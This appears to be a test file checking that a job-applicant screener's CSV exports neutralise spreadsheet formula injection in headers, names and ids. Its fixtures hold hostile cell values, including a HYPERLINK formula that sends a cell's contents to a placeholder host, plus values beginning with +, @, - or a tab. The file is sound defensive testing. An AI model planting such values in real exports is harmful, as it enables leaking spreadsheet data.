/**
 * Formula injection (issue 11): a spreadsheet runs a cell that begins with
 * = + - @ (or a tab or carriage return) as a formula. Every cell the screener
 * writes, headers included, must reach the spreadsheet as text: level ids from
 * an agency's qualification file become column headers, and names, ids and
 * shortfalls come from files too. The page's "Download results" and
 * `--format csv` share src/pool's writer; both are checked.
 */
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { BUILTIN_QUALIFICATION_FILES } from "../../src/builtin-qualifications";
import { loadCatalog } from "../../src/engine/load-qualifications";
import { jsonCandidates } from "../../src/pool/read-pool";
import { poolLevels, resultsToCsv } from "../../src/pool/results-csv";
import { screenCandidate } from "../../src/pool/screen-candidate";
import { writePoolCsv } from "../../src/pool/screen-pool-csv";
import { runCli } from "../cli/run-cli";

const ROOT = join(import.meta.dirname, "..", "..");
const EXAMPLE = readFileSync(join(ROOT, "docs/examples/marren-county-permit-technician.json"), "utf8");
const HOSTILE_IDS: Record<string, string> = { "5100": '=HYPERLINK("http://x/?"&A2,"y")', "5101": "+5101", "5102": "@SUM(1,2)" };
const hostileFile = EXAMPLE.replace(/"id": "(510\d)"/g, (_m, id: string) => `"id": ${JSON.stringify(HOSTILE_IDS[id])}`)
  .replace(/"comparableTo": \[\s*"5101",\s*"5102"\s*\]/g, `"comparableTo": ${JSON.stringify([HOSTILE_IDS["5101"], HOSTILE_IDS["5102"]])}`);
const loaded = loadCatalog([...BUILTIN_QUALIFICATION_FILES, { file: "hostile.json", data: JSON.parse(hostileFile) }]);
const APPLICANTS = [
  { name: "-2+3", asOf: "2026-11-22", education: { highSchool: "diploma" }, experience: [{ start: "2026-01-01", end: "2026-03-31", hoursPerWeek: 40, kinds: ["customer-service"] }] },
  { name: "@Doe\tJane", asOf: "2026-11-22", education: { highSchool: "none" } },
  { name: "\tTabbed", education: {} },
];
const FORMULA = /^[=+\-@\t\r]/;

/** Every cell of a CSV text, header first. */
function cells(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text, { header: false, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

function expectNoFormula(text: string): void {
  const table = cells(text);
  const header = table[0];
  for (const [id, hostile] of Object.entries(HOSTILE_IDS)) {
    expect(header, `the column of level ${id}`).toContain(`'${hostile}`);
    expect(header).toContain(`'${hostile} shortfall`);
  }
  const names = table.slice(1).map((row) => row[1]);
  expect(names).toEqual(APPLICANTS.map((a) => `'${a.name}`));
  for (const row of table) for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(FORMULA);
}

describe("formula injection in results CSV", () => {
  it("the agency file loads with its hostile level ids", () => {
    expect(loaded.errors).toEqual([]);
  });

  it("the page's download (resultsToCsv) neutralises every cell, headers included", () => {
    const rows = [...jsonCandidates(APPLICANTS)].map((c) => screenCandidate(c, loaded.catalog, { today: "2026-11-22" }, true));
    expectNoFormula(resultsToCsv(poolLevels(loaded.catalog), rows));
  });

  it("the command line's writer (writePoolCsv) neutralises every cell, headers included", () => {
    let text = "";
    writePoolCsv(jsonCandidates(APPLICANTS), loaded.catalog, { today: "2026-11-22" }, (chunk) => (text += chunk), { shortfalls: true });
    expectNoFormula(text);
  });

  it("npm run screen -- --format csv --qualifications DIR neutralises every cell, headers included", async () => {
    const dir = mkdtempSync(join(tmpdir(), "formula-"));
    writeFileSync(join(dir, "hostile.json"), hostileFile);
    writeFileSync(join(dir, "pool.json"), JSON.stringify(APPLICANTS));
    const r = await runCli("--format", "csv", "--shortfalls", "--qualifications", dir, join(dir, "pool.json"));
    expect(r.status).toBe(1);
    expectNoFormula(r.stdout);
  });
});
